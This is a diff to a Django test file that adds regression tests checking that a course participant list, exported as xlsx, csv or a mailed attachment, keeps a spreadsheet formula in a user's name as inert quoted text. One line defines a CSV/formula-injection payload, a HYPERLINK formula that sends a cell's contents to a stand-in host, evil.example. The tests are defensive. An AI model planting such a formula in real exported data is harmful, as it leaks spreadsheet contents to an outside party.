@@ -4,11 +4,12 @@ import csv
 import io
 
 import pytest
+from django.core import mail
 from openpyxl import load_workbook
 
 from academy_pages import registration as workflow
 from academy_pages.models import Attendance, Registration
-from tests.academy_pages.admin_support import participants_url
+from tests.academy_pages.admin_support import participants_url, register
 from tests.factories.academy import SessionFactory
 from tests.factories.people import UserFactory
 
@@ -77,3 +78,42 @@ def test_employees_cannot_download_the_list(employee_client, session):
     response = employee_client.get(f"{participants_url(session)}export/csv/")
     assert response.status_code == 302
     assert b"Piet Smit" not in response.content
+
+
+ATTACK = '=HYPERLINK("https://evil.example/?d="&B3,"Klik hier")'
+
+
+@pytest.fixture
+def attacked_session(course):
+    """A session where one employee's account name is a spreadsheet formula."""
+    session = SessionFactory(course=course)
+    register(session, UserFactory(username="aanvaller", first_name=ATTACK, last_name=""))
+    register(session, UserFactory(username="collega", first_name="Piet", last_name="Smit"))
+    return session
+
+
+def test_a_formula_as_name_is_inert_text_in_the_xlsx(editor_client, attacked_session):
+    response = editor_client.get(f"{participants_url(attacked_session)}export/xlsx/")
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cell = sheet["A2"]
+    assert cell.value == ATTACK
+    assert cell.data_type == "s"  # a string, not "f" (formula)
+    assert cell.quotePrefix is True
+    assert sheet["A3"].value == "Piet Smit" and not sheet["A3"].quotePrefix
+
+
+def test_a_formula_as_name_is_quoted_in_the_csv(editor_client, attacked_session):
+    response = editor_client.get(f"{participants_url(attacked_session)}export/csv/")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][0] == "'" + ATTACK
+    assert rows[2][0] == "Piet Smit"
+
+
+def test_the_list_mailed_to_the_provider_holds_the_formula_as_inert_text(editor_client, attacked_session):
+    editor_client.post(participants_url(attacked_session), {"action": "mail_provider"})
+
+    ((_filename, content, _type),) = mail.outbox[0].attachments
+    cell = load_workbook(io.BytesIO(content)).active["A2"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (ATTACK, "s", True)
